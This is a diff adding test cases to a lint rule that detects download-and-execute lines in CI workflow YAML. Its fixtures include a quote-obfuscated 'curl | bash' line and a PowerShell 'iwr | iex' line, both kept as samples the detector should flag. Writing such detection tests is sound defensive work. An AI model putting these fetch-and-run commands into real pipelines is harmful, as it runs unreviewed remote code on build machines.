@@ -70,3 +70,33 @@ test('PowerShell iex over a download', () => {
   assert.equal(remoteExecLines('Invoke-Expression (Invoke-WebRequest https://x/y.ps1)').length, 1);
   assert.equal(remoteExecLines('Invoke-WebRequest https://x/y.ps1 -OutFile y.ps1').length, 0);
 });
+
+// The shell parse is skipped for scripts that name no downloader (see mayContainWord): names split by quoting
+// still count, PowerShell is read line by line as before, and a script with no downloader stays silent.
+ruleTester(rule, {
+  valid: [
+    { name: 'no downloader named', code: yaml`
+      on: push
+      jobs:
+        a:
+          runs-on: ubuntu-latest
+          steps:
+            - run: |
+                npm ci
+                echo "run it with sh" | tee notes.txt
+    ` },
+  ],
+  invalid: [
+    { name: 'a downloader split by quotes, and iwr | iex in PowerShell', code: yaml`
+      on: push
+      jobs:
+        a:
+          runs-on: ubuntu-latest
+          steps:
+            - run: |
+                c'u'rl -fsSL https://get.example.com | bash
+            - run: iwr https://get.example.com/i.ps1 | iex
+              shell: pwsh
+    `, findings: [{ line: 7, column: 11 }, { line: 8 }] },
+  ],
+});
